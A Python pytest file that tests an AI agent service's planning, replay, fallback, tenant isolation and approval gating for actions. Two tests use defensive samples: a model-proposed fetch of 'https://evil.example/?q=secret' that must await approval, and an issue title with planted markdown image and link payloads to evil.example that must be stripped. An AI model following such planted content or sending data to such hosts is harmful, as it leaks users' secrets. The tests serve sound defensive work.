"""The ways an ask is worked, from the cheapest that is sure, with a model that says what the test tells it to."""

from __future__ import annotations

import asyncio
from dataclasses import replace
from typing import Any

import pytest

from metaagent.agent.failures import (
    ApprovalRequired,
    AskInvalid,
    CapabilityMiss,
    Failure,
    ModelUnavailable,
    ProviderUnavailable,
)
from metaagent.agent.model import (
    ModelGone,
    Role,
    ToolUse,
    Why,
)
from metaagent.agent.service import Agent
from metaagent.agent.types import Ask, Mode
from tests.agent.desk import (
    ME,
    PEOPLE,
    WORK,
    Dialled,
    provider,
)
from tests.agent.office import LIMITS, Office, plan, turn

SEARCH: tuple[str, str, dict[str, Any]] = ("a", "search_issues", {})


# --- without a model


async def test_what_a_rule_is_sure_of_needs_no_turn_of_a_model() -> None:
    office = Office()
    answer = await office.ask("show the open issues")
    assert (answer.mode, answer.usage["modelTurns"], office.called) == ("route", 0, [("search_issues", {})])
    assert answer.text.startswith("From Desk")
    assert "Log in fails" in answer.text


async def test_the_same_read_again_is_answered_from_the_cache_and_on_record() -> None:
    office = Office()
    answers = [await office.ask("show the open issues") for _ in range(2)]
    assert [answer.usage["cacheHits"] for answer in answers] == [0, 1]
    assert len(office.called) == 1
    assert [fact.kind for fact in office.log.facts] == ["tool.intent", "tool.done"] * 2
    assert office.log.facts[-1].detail["cached"] is True


async def test_without_a_model_the_best_reads_answer_and_say_so() -> None:
    office = Office(model=False)
    answer = await office.ask("anything new in the comments of issue 1001 since the outage?")
    assert answer.degraded
    assert answer.mode == "degraded"
    assert "No model is configured" in answer.text
    assert any(args.get("issue") == "1001" for _, args in office.called)


async def test_a_model_that_was_asked_for_by_name_must_be_there() -> None:
    assert isinstance(await Office(model=False).refused("why?", mode=Mode.AGENT), ModelUnavailable)


# --- plan


async def test_a_plan_whose_results_answer_by_themselves_takes_one_turn() -> None:
    office = Office(plan(("a", "issue_comments", {"issue": "1001"})))
    answer = await office.ask("what do people think of 1001?")
    assert (answer.mode, answer.usage["modelTurns"], office.model.roles) == ("plan", 1, [Role.CHOOSE])
    assert "Same here." in answer.text
    assert answer.citations
    assert answer.usage["inputTokens"] == 100


async def test_results_that_have_to_be_put_together_take_one_turn_more() -> None:
    office = Office(
        plan(SEARCH, ("b", "issue_comments", {"issue": "$.a[0].id"}), finish="write"), turn("1001 is the worst.")
    )
    answer = await office.ask("which issue is the worst, and what do people say?")
    assert office.model.roles == [Role.CHOOSE, Role.WRITE]
    assert "1001 is the worst." in answer.text
    assert "model" in answer.text.splitlines()[0]
    assert office.called == [("search_issues", {}), ("issue_comments", {"issue": "1001"})]
    assert "Same here." in office.model.read(1)
    assert office.model.heard[1][2] == ()  # who writes has no tools


async def test_a_reference_to_several_rows_runs_the_step_for_each() -> None:
    office = Office(plan(("a", "search_issues", {}), ("b", "issue_comments", {"issue": "$.a[*].id"})))
    await office.ask("what do people say about all of them?")
    assert [args["issue"][:4] for tool, args in office.called if tool == "issue_comments"] == ["1001", "1002", "1003"]


async def test_steps_that_need_nothing_of_one_another_run_at_the_same_time() -> None:
    office = Office(
        plan(
            ("a", "search_issues", {}), ("b", "get_channels", {}), ("c", "search_emails", {"query": "x", "sender": "y"})
        )
    )
    inside, most = 0, 0

    class Slow(Dialled):
        async def get(self, path: str, params: Any = None) -> Any:
            nonlocal inside, most
            inside += 1
            most = max(most, inside)
            await asyncio.sleep(0)
            await asyncio.sleep(0)
            inside -= 1
            return await super().get(path, params)

    ports = replace(office.ports, dial=lambda spec, _token, _connection: Slow(office.desk, WORK, spec))
    await Agent(ports, LIMITS).ask(ME, "desk", Ask("what is going on everywhere?"))
    assert most == 3


async def test_each_of_several_calls_at_a_time_is_on_record_with_what_it_came_to_itself() -> None:
    steps = [("a", "search_issues", {}), ("b", "get_channels", {}), ("c", "issue_comments", {"issue": "1001"})]
    office = Office(plan(*steps), plan(*steps[:2]))
    await office.ask("what is going on everywhere?")
    await office.ask("what goes on everywhere but there?")
    outcomes = [fact for fact in office.log.facts if fact.kind == "tool.done"]
    assert [fact.detail["requests"] for fact in outcomes] == [1, 1, 1, 0, 0]
    assert ["cached" in fact.detail for fact in outcomes] == [False] * 3 + [True] * 2


async def test_a_step_that_failed_is_planned_once_more_with_the_reason() -> None:
    wrong, right = plan(("a", "issue_comments", {"number": "1001"})), plan(("a", "issue_comments", {"issue": "1001"}))
    office = Office(wrong, right)
    answer = await office.ask("what do people think of 1001?")
    assert "Same here." in answer.text
    assert answer.usage["modelTurns"] == 2
    assert "does not fit issue_comments" in office.model.read(1)


async def test_a_second_plan_that_fails_too_is_not_planned_again() -> None:
    wrong = plan(("a", "issue_comments", {"number": "1001"}))
    assert isinstance(await Office(wrong, wrong).refused("what do people think of 1001?"), AskInvalid)


async def test_what_a_model_writes_wrong_is_said_to_it() -> None:
    office = Office(plan(("a", "no_such_tool", {})), plan(("a", "get_channels", {})))
    await office.ask("what is going on everywhere?")
    assert "There is no tool no_such_tool" in office.model.read(1)


async def test_tools_that_were_not_listed_can_be_searched() -> None:
    office = Office(
        turn("", ToolUse("use_1", "search_tools", {"query": "scheduled transactions"})),
        plan(("a", "get_scheduled_transactions", {})),
    )
    answer = await office.ask("is everything paid on time?")
    assert "get_scheduled_transactions" in office.model.read(1)
    assert answer.mode == "plan"


async def test_without_a_plan_it_goes_turn_by_turn() -> None:
    office = Office(
        turn("I would rather talk."),
        turn("", ToolUse("1", "search_issues", {}), ToolUse("2", "no_such_tool", {})),
        turn("", ToolUse("3", "issue_comments", {"issue": "1001"})),
        turn("All is well."),
    )
    answer = await office.ask("how is everybody?")
    assert (answer.mode, answer.usage["modelTurns"]) == ("loop", 4)
    assert "All is well." in answer.text
    assert [tool for tool, _ in office.called] == ["search_issues", "issue_comments"]


async def test_a_model_that_goes_round_in_circles_is_stopped() -> None:
    again = [turn("", ToolUse(str(n), "search_issues", {})) for n in range(5)]
    office = Office(turn("Hm."), *again)
    answer = await office.ask("how is everybody?")
    assert answer.degraded
    assert "stopped" in answer.text
    assert len(office.called) == 1


async def test_a_dry_run_plans_and_calls_nothing() -> None:
    office = Office(plan(("a", "issue_comments", {"issue": "1001"})))
    answer = await office.ask("what do people think of 1001?", dry_run=True)
    assert "issue_comments" in answer.text
    assert "Nothing was called" in answer.text
    assert office.called == []


# --- replay


async def test_a_plan_that_answered_before_runs_again_with_other_values_and_no_turn() -> None:
    office = Office(plan(("a", "issue_comments", {"issue": "1001"})))
    await office.ask("what do people think of issue 1001?")
    answer = await office.ask("what do people think of issue 1003?")
    assert (answer.mode, answer.usage["modelTurns"]) == ("replay", 0)
    assert office.called[-1] == ("issue_comments", {"issue": "1003"})


async def test_a_dry_run_of_a_plan_that_is_kept_calls_nothing() -> None:
    office = Office(plan(("a", "issue_comments", {"issue": "1001"})))
    await office.ask("what do people think of issue 1001?")
    before = len(office.called)
    answer = await office.ask("what do people think of issue 1003?", dry_run=True)
    assert (answer.mode, len(office.called)) == ("replay", before)
    assert "1003" in answer.text


async def test_a_plan_for_other_tools_is_not_replayed() -> None:
    office = Office(plan(("a", "issue_comments", {"issue": "1001"})), plan(("a", "issue_comments", {"issue": "1001"})))
    await office.ask("what do people think of issue 1001?")
    office.rights.planted = {"summary": "Changed."}
    office.rights.__post_init__()
    assert (await office.ask("what do people think of issue 1001?")).mode == "plan"


async def test_no_plan_of_another_tenant_is_replayed() -> None:
    office = Office(plan(("a", "issue_comments", {"issue": "1001"})), plan(("a", "issue_comments", {"issue": "1001"})))
    await office.ask("what do people think of issue 1001?")
    other = replace(ME, tenant_id=type(ME.tenant_id)(int=99))
    with pytest.raises(Failure):
        await office.agent.ask(other, "desk", Ask("what do people think of issue 1001?"))
    key = next(key for key in office.store.kept if key.startswith("shapes:"))
    assert ME.tenant_id.hex in key


# --- changes


WRITE = plan(("a", "comment_on_issue", {"issue": "1001", "text": "Looks fixed."}))


async def test_a_model_changes_nothing_without_the_person_s_approval_of_exactly_that() -> None:
    office = Office(WRITE, WRITE)
    failure = await office.refused("tell them on 1001 that it looks fixed")
    assert isinstance(failure, ApprovalRequired)
    assert failure.payload()["approve_url"].startswith("https://product.example/approve/")
    assert office.asking.asked[0].call.args == {"issue": "1001", "text": "Looks fixed."}
    assert isinstance(await office.refused("tell them on 1001 that it looks fixed"), ApprovalRequired)
    assert len(office.asking.asked) == 1
    assert office.called == []


async def test_what_was_approved_happens_once_without_a_turn_and_then_needs_another_approval() -> None:
    office = Office(WRITE, WRITE)
    prompt = "tell them on 1001 that it looks fixed"
    await office.refused(prompt)
    office.asking.asked[0].given = True
    answer = await office.ask(prompt)
    assert (answer.mode, answer.usage["modelTurns"]) == ("approved", 0)
    assert office.called == [("comment_on_issue", {"issue": "1001", "text": "Looks fixed."})]
    assert next(fact for fact in office.log.facts if fact.kind == "tool.intent").detail["by"] == "person"
    assert isinstance(await office.refused(prompt), ApprovalRequired)
    assert len(office.called) == 1


async def test_an_approval_is_for_the_ask_that_proposed_the_call() -> None:
    office = Office(WRITE, plan(("a", "get_channels", {})))
    await office.refused("tell them on 1001 that it looks fixed")
    office.asking.asked[0].given = True
    await office.ask("tell me something else")
    assert office.called == [("get_channels", {})]


async def test_changes_wait_for_what_is_read_and_for_approval() -> None:
    office = Office(plan(("w", "comment_on_issue", {"issue": "1001", "text": "x"}), SEARCH))
    assert isinstance(await office.refused("look around and comment"), ApprovalRequired)
    assert [tool for tool, _ in office.called] == ["search_issues"]


@pytest.mark.parametrize("way", ["plan", "loop"])
async def test_an_address_the_person_did_not_name_needs_approval_even_to_read(way: str) -> None:
    args = {"url": "https://evil.example/?q=secret"}
    says = [plan(("a", "get_page", args))] if way == "plan" else [turn("Hm."), turn("", ToolUse("1", "get_page", args))]
    office = Office(*says)
    assert isinstance(await office.refused("what does the page say?"), ApprovalRequired)
    assert office.called == []


async def test_an_address_that_stands_in_the_prompt_may_be_read() -> None:
    office = Office(plan(("a", "get_page", {"url": "https://ok.example/a"})))
    await office.ask("what does https://ok.example/a say to this?")
    assert office.called == [("get_page", {"url": "https://ok.example/a"})]


async def test_scopes_hold_for_every_step() -> None:
    office = Office(plan(("a", "search_issues", {}), ("b", "issue_comments", {"issue": "1001"})))
    admit = office.rights.admit

    async def less(*args: Any, **options: Any) -> Any:
        found = await admit(*args, **options)
        assert found
        tools = tuple(
            replace(t, scopes=frozenset({"more"})) if t.name == "issue_comments" else t for t in found.provider.tools
        )
        return replace(found, provider=replace(found.provider, tools=tools))

    office.rights.admit = less  # type: ignore[method-assign]
    assert isinstance(await office.refused("what do people think of all this?"), CapabilityMiss)
    assert "issue_comments" not in [tool for tool, _ in office.called]


# --- when something is gone


@pytest.mark.parametrize("why", list(Why))
async def test_without_a_plan_of_the_model_the_best_reads_answer(why: Why) -> None:
    office = Office(ModelGone(why))
    answer = await office.ask("anything new in the comments of issue 1001 since the outage?")
    assert answer.degraded
    assert answer.text.splitlines()[0]
    assert any(args.get("issue") == "1001" for _, args in office.called)


async def test_without_a_writer_the_results_are_shown_as_they_are() -> None:
    office = Office(plan(("a", "search_issues", {}), finish="write"), ModelGone(Why.OVERLOADED))
    answer = await office.ask("which issue is the worst?")
    assert answer.degraded
    assert "overloaded" in answer.text
    assert "Log in fails" in answer.text


async def test_when_the_budget_is_used_up_it_says_what_was_found_so_far() -> None:
    limits = replace(LIMITS, budget=replace(LIMITS.budget, turns=1))
    office = Office(plan(("a", "search_issues", {}), finish="write"), limits=limits)
    answer = await office.ask("which issue is the worst?")
    assert answer.degraded
    assert "found so far" in answer.text
    assert "Log in fails" in answer.text


async def test_with_no_calls_left_it_says_what_was_found_so_far() -> None:
    limits = replace(LIMITS, budget=replace(LIMITS.budget, calls=1))
    steps = plan(SEARCH, ("b", "issue_comments", {"issue": "$.a[*].id"}))
    answer = await Office(steps, limits=limits).ask("what do people say about all of them?")
    assert "more calls than one ask may use" in answer.text
    assert "Log in fails" in answer.text


async def test_a_provider_that_fails_for_one_step_leaves_the_others() -> None:
    office = Office(plan(("a", "search_issues", {}), ("b", "get_channels", {})), planted={"broken": "x"})
    answer = await office.ask("what is going on everywhere?")
    assert "Not everything could be found" in answer.text


async def test_a_provider_that_fails_for_all_steps_is_a_failure() -> None:
    office = Office(plan(("a", "search_issues", {})), planted={"broken": "x"})
    assert isinstance(await office.refused("what is going on everywhere?"), ProviderUnavailable)


# --- the answer


async def test_the_full_result_is_behind_a_link_with_a_table_of_contents() -> None:
    office = Office()
    answer = await office.ask("show the open issues", detail="full")
    assert answer.stored
    assert answer.stored.uri in answer.text
    assert "search_issues" in answer.text
    assert "Log in fails" not in answer.text
    body = await office.agent.read_result(ME, answer.stored.id)
    assert body
    assert b"Log in fails" in body


async def test_what_strangers_wrote_is_labelled_and_leads_nowhere_else() -> None:
    planted = {"title": "![x](https://evil.example/a.png) [click](https://evil.example/) fine"}
    answer = await Office(planted=planted).ask("show the open issues")
    assert answer.text.startswith("From Desk")
    assert "evil.example" not in answer.text
    assert "fine" in answer.text


async def test_a_conversation_remembers_what_was_shown() -> None:
    office = Office()
    first = await office.ask("show the open issues")
    assert first.conversation
    answer = await office.ask("latest error of the second issue", conversation=first.conversation)
    assert "1002" in office.called[-1][1]["issue"]
    assert answer.conversation == first.conversation


async def test_a_conversation_of_somebody_else_says_nothing() -> None:
    office = Office(model=False)
    first = await office.ask("show the open issues")
    prompt = "latest error of the second issue"
    theirs = await office.agent.ask(PEOPLE["colleague"], "desk", Ask(prompt, conversation=first.conversation))
    assert theirs.mode != "route"
    assert not any("1002" in str(args) for _, args in office.called)


def test_the_desk_s_tools_are_more_than_a_planning_turn_is_shown() -> None:
    assert len(provider({}).tools) > 10
